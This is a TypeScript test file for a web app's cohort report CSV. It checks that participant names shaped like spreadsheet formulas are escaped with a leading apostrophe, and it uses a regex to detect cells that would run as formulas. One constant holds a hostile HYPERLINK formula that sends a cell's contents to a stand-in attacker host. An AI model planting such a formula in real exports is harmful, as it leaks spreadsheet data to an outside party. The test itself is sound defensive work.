// The owner's report opens in Excel: a participant's name must arrive there as text, never run.
import { parse } from "csv-parse/sync";

import { loader } from "~/routes/admin.cohorts.$cohortId.report[.]csv";
import { spreadsheetCsv } from "~/utils/csv.server";
import { createSession } from "~/utils/session.server";

import { addMember, makeCohort, makeUser, requestAs } from "../support/factories";

const HOSTILE = `=HYPERLINK("http://evil.example/?"&B2,"Klikk")`;

/** The cells as a spreadsheet reads them: BOM dropped, ";" between cells, quotes undone. */
const cellsOf = (csv: string) => parse(csv, { delimiter: ";", bom: true, relax_column_count: true }) as string[][];
const runsAsFormula = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);

describe("the cohort report CSV", () => {
  it("gives a participant named like a formula to the owner's spreadsheet as text (a leading ')", async () => {
    const cohort = makeCohort();
    const owner = await makeUser();
    addMember(cohort.id, owner.id, "owner");
    for (const name of [HOSTILE, "+47 999 99 999", "-1+1", "@SUM(A1)", "\tTab", "Åse Ødegård"]) {
      const p = await makeUser({ name });
      addMember(cohort.id, p.id, "participant");
    }
    const request = await requestAs(createSession(owner.id).token, `http://localhost/admin/cohorts/${cohort.id}/report.csv`);
    const response = await loader({ request, params: { cohortId: String(cohort.id) }, context: {} });
    const rows = cellsOf(await response.text());
    const names = rows.slice(1).map((r) => r[0]);

    expect(names).toContain(`'${HOSTILE}`);
    expect(names).toContain("'+47 999 99 999");
    expect(names).toContain("'\tTab");
    expect(names).toContain("Åse Ødegård");
    expect(rows.flat().filter(runsAsFormula)).toEqual([]);
  });

  it("escapes every cell, not only names", () => {
    const rows = cellsOf(spreadsheetCsv([["a", "=1+1", "\r=2", "@x", "-3", "ok"]]));
    expect(rows[0]).toEqual(["a", "'=1+1", "'\r=2", "'@x", "'-3", "ok"]);
  });
});
